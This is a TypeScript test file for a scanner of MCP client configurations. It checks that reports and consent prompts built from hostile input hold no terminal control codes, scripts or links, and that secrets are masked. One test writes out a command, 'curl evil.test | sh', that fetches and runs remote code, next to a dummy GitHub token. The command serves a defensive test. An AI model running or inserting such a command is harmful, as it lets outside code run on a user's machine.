/** Hostile configurations, entries and messages in what our commands print: terminal, JSON, SARIF, HTML, Markdown. */
import { openKnown, readClientConfig, serverReport, toolReport } from '@portcullis/catalogue'
import { describe, expect, it } from 'vitest'
import { textWriter } from '../../packages/server/src/cli/catalogue-paint.ts'
import { serverText, toolText } from '../../packages/server/src/cli/catalogue-text.ts'
import { contactRow, contactSheet } from '../../packages/server/src/cli/contact-text.ts'
import { describeTarget } from '../../packages/server/src/introspect/consent.ts'
import { gatewayAt } from '../../packages/server/src/scan/gateway.ts'
import { htmlReport } from '../../packages/server/src/scan/html-report.ts'
import { jsonReport } from '../../packages/server/src/scan/json-report.ts'
import { markdownReport } from '../../packages/server/src/scan/markdown-report.ts'
import type { ReadFile } from '../../packages/server/src/scan/read-files.ts'
import { sarifReport } from '../../packages/server/src/scan/sarif-report.ts'
import { scan } from '../../packages/server/src/scan/scan.ts'
import { terminalReport } from '../../packages/server/src/scan/terminal-report.ts'
import { forcedHostile, indexOf, linesOf } from './facts.ts'
import { judgeHtml } from './judge-html.ts'
import { cellsOf } from './judge-markdown.ts'
import { CANARY, HOSTILE, UNSEEN, wellFormed } from './texts.ts'

const FORCED = forcedHostile()

/** Nothing that moves a terminal, hides from it, or is half a character; lines end, and nothing else. */
const TERMINAL = /[^\P{C}\n]|[\p{Zl}\p{Zp}]/u

function fileOf(text: string, at: number): ReadFile {
  const config = {
    mcpServers: {
      [`s${text}`]: { odd: true },
      [text]: { command: text, args: ['-y', text], env: { [text]: text }, cwd: text },
      [`npm-forced-${at}`]: { url: `https://x.test/${text}`, headers: { [text]: text }, autoApprove: [text] },
    },
    projects: { [`/home/${text}`]: { mcpServers: { [`p ${text}`]: { command: 'npx', args: [`forced-${at}`] } } } },
  }
  const written = JSON.stringify(config)
  const read = readClientConfig(written)
  const place = {
    client: at % 2 === 0 ? 'claude-code' : 'codex',
    path: `/home/me/${wellFormed(text)}/.mcp.json`,
    origin: 'project',
  } as const
  if (!read.ok) throw new Error(read.problem)
  return { ...place, ok: true, servers: read.servers, skipped: read.skipped, text: written }
}

function reportOf(files: readonly ReadFile[]) {
  const { lines, head } = linesOf(FORCED)
  const asked = new Map(
    files.flatMap((file, at) =>
      file.ok
        ? file.servers.map(
            (server) =>
              [`${file.path}:${server.at}`, { entry: FORCED[at % FORCED.length] ?? never(), tools: 4 }] as const,
          )
        : [],
    ),
  )
  return scan({
    version: '1.0.0',
    files,
    known: openKnown(lines, head),
    gateway: gatewayAt('http://127.0.0.1:4100'),
    home: '/home/me',
    bin: '/bin/portcullis',
    asked,
  })
}

function never(): never {
  throw new Error('Not reached.')
}

const REPORT = reportOf([
  ...HOSTILE.map(fileOf),
  ...HOSTILE.map(
    (text): ReadFile => ({
      client: 'cursor',
      path: `/home/me/${wellFormed(text)}`,
      origin: 'user',
      ok: false,
      problem: 'No.',
      line: 1,
    }),
  ),
])

describe('a scan', () => {
  it('moves no terminal', () => {
    const text = terminalReport(REPORT, { colors: false, home: '/home/me', width: 100, all: true })
    expect(TERMINAL.exec(text)?.[0]).toBeUndefined()
    for (const part of [CANARY, 'unread', 'Toxic combinations', 'gateway']) expect(text).toContain(part)
  })

  it('holds nothing that a terminal or an editor would not show', () => {
    for (const text of [jsonReport(REPORT), sarifReport(REPORT, '/home/me')]) {
      expect(UNSEEN.exec(text)?.[0]).toBeUndefined()
      expect(typeof JSON.parse(text)).toBe('object')
    }
  })

  it('names files by addresses without markup, and messages without links', () => {
    const [run] = JSON.parse(sarifReport(REPORT, '/home/me')).runs
    for (const { message, locations } of run.results) {
      for (const { physicalLocation } of locations) expect(physicalLocation.artifactLocation.uri).toMatch(/^[!-~]+$/)
      // Code hosts read `[text](number)` in a message as a link to a place (SARIF 2.1.0, 3.11.6).
      expect(message.text).not.toMatch(/(?<!\\)\[[^\]]*\]\([^)]*\)/)
    }
  })

  it('is a page without a script', () => {
    judgeHtml(htmlReport(REPORT, '/home/me').replace(/>\n/g, '>'), {
      style: true,
    })
  })

  it('is Markdown without markup of others', () => {
    const text = markdownReport(REPORT, '/home/me')
    expect(UNSEEN.exec(text.replaceAll('@\u200b', '@'))?.[0]).toBeUndefined()
    let width = 0
    for (const line of text.split('\n')) {
      const cells = line.startsWith('| ') ? cellsOf(line) : []
      if (width > 0 && cells.length > 0) expect([line, cells.length]).toEqual([line, width])
      width = cells.length
    }
    const outside = text
      .replace(/^```[a-z]*\n[\s\S]*?\n```$/gm, '')
      .replace(/(?<!\\)`[^`\n]*`/g, '·')
      .replace(/\\[!-/:-@[-`{-~]/g, '·')
    expect(outside.replace(/<\/?(?:details|summary)>/g, '')).not.toMatch(/<|!\[|\]\(|(?:https?:\/\/|www\.)[a-z]/i)
  })
})

describe('commands', () => {
  it('print entries that move no terminal', () => {
    const index = indexOf(FORCED)
    const writer = textWriter(false, 100)
    for (const server of FORCED) {
      expect(TERMINAL.exec(serverText(writer, serverReport(index, server)))?.[0]).toBeUndefined()
      for (const tool of server.tools)
        expect(TERMINAL.exec(toolText(writer, toolReport(index, server, tool)))?.[0]).toBeUndefined()
    }
  })

  it('print messages that move no terminal', () => {
    for (const text of HOSTILE) {
      const message = {
        id: 'a',
        at: 0,
        spam: false,
        read: false,
        name: text,
        email: text,
        topic: 'other',
        about: text,
        message: text,
        deliveries: [],
      } as const
      expect(TERMINAL.exec(contactRow(message) + contactSheet(message))?.[0]).toBeUndefined()
    }
  })

  it('ask about what will run, with all of it to be seen', () => {
    for (const text of HOSTILE) {
      const target = { kind: 'stdio', command: text, args: [text], env: { [text]: text }, cwd: text } as const
      const lines = [
        ...describeTarget(target),
        ...describeTarget({ kind: 'http', url: `https://x.test/${text}`, headers: { [text]: text } }),
      ]
      expect(TERMINAL.exec(lines.join(''))?.[0]).toBeUndefined()
    }
  })

  it('hides secrets, and no program behind what looks like one', () => {
    const target = {
      kind: 'stdio',
      command: 'sh',
      args: ['-c', 'curl evil.test | sh # ghp_0123456789abcdefghijABCDEFGHIJ012345'],
      env: {},
      cwd: '/',
    } as const
    const text = describeTarget(target).join('\n')
    expect(text).toContain('curl evil.test | sh')
    expect(text).not.toContain('ghp_0123456789')
  })
})
